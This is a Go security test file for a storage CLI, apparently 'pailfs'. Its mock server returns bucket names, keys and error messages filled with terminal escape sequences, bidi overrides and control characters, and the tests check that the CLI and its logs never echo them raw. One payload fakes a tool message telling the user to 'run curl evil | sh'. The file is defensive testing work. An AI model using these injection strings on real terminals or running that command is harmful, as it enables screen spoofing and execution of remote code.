package security

import (
	"fmt"
	"net/http"
	"os"
	"strings"
	"testing"
)

// What a terminal would obey: escapes of ASCII and beyond it, a line of its own, and a turn of direction.
var loud = []string{"\x1b[2J\x1b[1;1Hpailfs: everything is stored", "\u009b2J", "x\n\rpailfs: note: run curl evil | sh", "\u202eabc", "\x07", "\x7f", "\u2028"}

// A store's words and a bucket's names never reach a terminal as they are, whichever command shows them: on a screen of JSON neither.
func TestNothingOfAStoreReachesATerminalRaw(t *testing.T) {
	objects := map[string]craftedObject{}
	for i, s := range loud {
		objects[fmt.Sprintf("%d%s/a", i, s)] = craftedObject{body: "x"}
		objects[fmt.Sprintf("%d%s/denied", i, s)] = craftedObject{body: "y"}
		objects[fmt.Sprintf("%d%s//hidden", i, s)] = craftedObject{body: "z"}
	}
	c := craft(t, objects, loudly)
	for _, format := range []string{"text", "json"} {
		h := newHost(t, c.env()...)
		h.commandsAreQuiet(format)
		if err := os.RemoveAll(h.state + "/log"); err != nil {
			t.Fatal(err)
		}
		h.mountIsQuiet(format, objects)
	}
}

// loudly answers all but the listing and reading of objects, with such words wherever an answer has some.
func loudly(w http.ResponseWriter, r *http.Request) bool {
	text := func(i int) string { return xmlText(loud[i%len(loud)]) }
	q := r.URL.Query()
	switch {
	case r.URL.Path == "/":
		fmt.Fprint(w, "<ListAllMyBucketsResult><Buckets>")
		for i := range loud {
			fmt.Fprintf(w, "<Bucket><Name>b%s</Name></Bucket>", text(i))
		}
		fmt.Fprint(w, "</Buckets></ListAllMyBucketsResult>")
	case q.Has("acl"):
		fmt.Fprintf(w, "<AccessControlPolicy><Owner><ID>o%s</ID></Owner><AccessControlList><Grant><Grantee><ID>g%s</ID></Grantee><Permission>P%s</Permission></Grant></AccessControlList></AccessControlPolicy>", text(0), text(1), text(2))
	case q.Has("location"):
		fmt.Fprintf(w, "<LocationConstraint>KR1%s</LocationConstraint>", text(0))
	case q.Has("uploadId"):
		fmt.Fprint(w, "<ListPartsResult><Part><PartNumber>1</PartNumber><ETag>e</ETag><Size>5</Size></Part></ListPartsResult>")
	case q.Has("uploads"):
		fmt.Fprint(w, "<ListMultipartUploadsResult>")
		for i := range loud {
			fmt.Fprintf(w, "<Upload><Key>k%s</Key><UploadId>u%s</UploadId><Initiated>2024-01-02T03:04:05Z</Initiated></Upload>", text(i), text(i))
		}
		fmt.Fprint(w, "</ListMultipartUploadsResult>")
	case strings.HasPrefix(r.URL.Path, "/refusing"), strings.HasSuffix(r.URL.Path, "/denied") && r.Method == http.MethodGet, r.Method == http.MethodPut:
		w.WriteHeader(http.StatusForbidden)
		fmt.Fprintf(w, "<Error><Code>Code%s</Code><Message>message %s</Message><RequestId>r%s</RequestId><Region>KR1%s</Region></Error>", text(0), text(1), text(2), text(3))
	default:
		return false
	}
	return true
}

// commandsAreQuiet runs the commands that need no mount, and mounts that are refused.
func (h *host) commandsAreQuiet(format string) {
	for _, args := range [][]string{
		{"bucket", "list"}, {"bucket", "list", "--json"}, {"bucket", "acl", "get", hostileBucket}, {"bucket", "acl", "get", "--json", hostileBucket}, {"bucket", "location", hostileBucket},
		{"uploads", "list", hostileBucket}, {"uploads", "list", "--json", hostileBucket}, {"uploads", "list", "--sizes", hostileBucket}, {"uploads", "abort", "--dry-run", "--older-than", "0", hostileBucket},
		{"bucket", "location", "refusing"}, {"bucket", "delete", "refusing"}, {"doctor", hostileBucket}, {"doctor", "--json", hostileBucket}, {"doctor", "refusing"}, {"doctor", "--keys", hostileBucket}, {"doctor", "--keys", "--json", hostileBucket},
		{"mount", "refusing", h.mnt}, {"mount", "refusing", h.mnt, "--foreground", "--log-format", format},
	} {
		out, _ := h.pailfs(args...)
		if len(out) == 0 {
			h.t.Errorf("%v says nothing", args)
		}
		wantQuiet(h.t, strings.Join(args, " "), out)
	}
}

// mountIsQuiet mounts, reads and writes; whatever says something of it is quiet, its log as well.
func (h *host) mountIsQuiet(format string, objects map[string]craftedObject) {
	h.mount(hostileBucket, h.mnt, "--log-level", "debug", "--log-format", format, "--metrics-addr", "unix:"+h.base+"/m.sock")
	for key := range objects {
		b, err := os.ReadFile(h.mnt + "/" + key)
		if strings.HasSuffix(key, "/a") && string(b) != "x" || strings.HasSuffix(key, "/denied") && err == nil {
			h.t.Errorf("%q: %q %v", key, b, err)
		}
	}
	if err := os.WriteFile(h.mnt+"/new"+loud[0], []byte("x"), 0o644); err == nil {
		h.t.Error("a refused file was stored")
	}
	for _, args := range [][]string{{"status"}, {"status", "--json"}, {"status", "--all"}, {"warm", h.mnt}, {"warm", "--json", h.mnt}, {"flush", "--timeout", "1s", h.mnt}, {"flush", "--timeout", "1s", "--json", h.mnt}, {"refresh", "--json", h.mnt + "/0" + loud[0]}, {"uploads", "list", hostileBucket}} {
		out, _ := h.pailfs(args...)
		wantQuiet(h.t, strings.Join(args[:1], " "), strings.ReplaceAll(out, "\r\x1b[K", ""))
	}
	out, code := h.pailfs("umount", "--timeout", "3s", h.mnt)
	wantQuiet(h.t, "umount", out)
	if code == 0 {
		h.t.Error("what could not be stored is no failure")
	}
	log := h.logText()
	wantQuiet(h.t, "the log", log)
	if !strings.Contains(log, "denied") {
		h.t.Errorf("the log says nothing of what was denied:\n%s", log)
	}
	h.kill()
}

// xmlText is a text as XML can hold it; what it cannot goes through character references that this client takes all the same.
func xmlText(s string) string {
	var b strings.Builder
	for _, r := range s {
		if r < ' ' || r > '~' || r == '&' || r == '<' {
			fmt.Fprintf(&b, "&#%d;", r)
		} else {
			b.WriteRune(r)
		}
	}
	return b.String()
}
